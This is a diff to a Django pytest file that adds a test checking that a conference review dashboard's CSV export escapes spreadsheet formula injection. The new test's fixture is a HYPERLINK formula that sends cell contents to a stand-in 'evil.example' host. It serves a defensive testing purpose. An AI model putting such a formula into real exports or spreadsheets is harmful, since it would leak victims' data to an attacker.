@@ -3,8 +3,11 @@ import io
 from decimal import Decimal
 
 import pytest
+from django.urls import reverse
 
 from expo.security.csv import csv_cell_escape, csv_writer
+from tests.factories import ConferenceFactory
+from tests.reviews.factories import chair, submitted_proposal
 
 
 @pytest.mark.parametrize(
@@ -42,3 +45,15 @@ def test_csv_writer_escapes_every_row_and_reads_back():
     writer.writerows([["=cmd()", -1], ["Fine, thanks", "@x"]])
     rows = list(csv.reader(io.StringIO(buffer.getvalue())))
     assert rows == [["title", "score"], ["'=cmd()", "-1"], ["Fine, thanks", "'@x"]]
+
+
+@pytest.mark.django_db
+def test_csv_export_of_the_review_dashboard_escapes_a_formula_title(client):
+    conference = ConferenceFactory()
+    title = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+    submitted_proposal(conference, title=title)
+    client.force_login(chair(conference))
+    response = client.get(reverse("reviews:export", args=[conference.slug]))
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert [cell for cell in cells if "HYPERLINK" in cell] == ["'" + title]
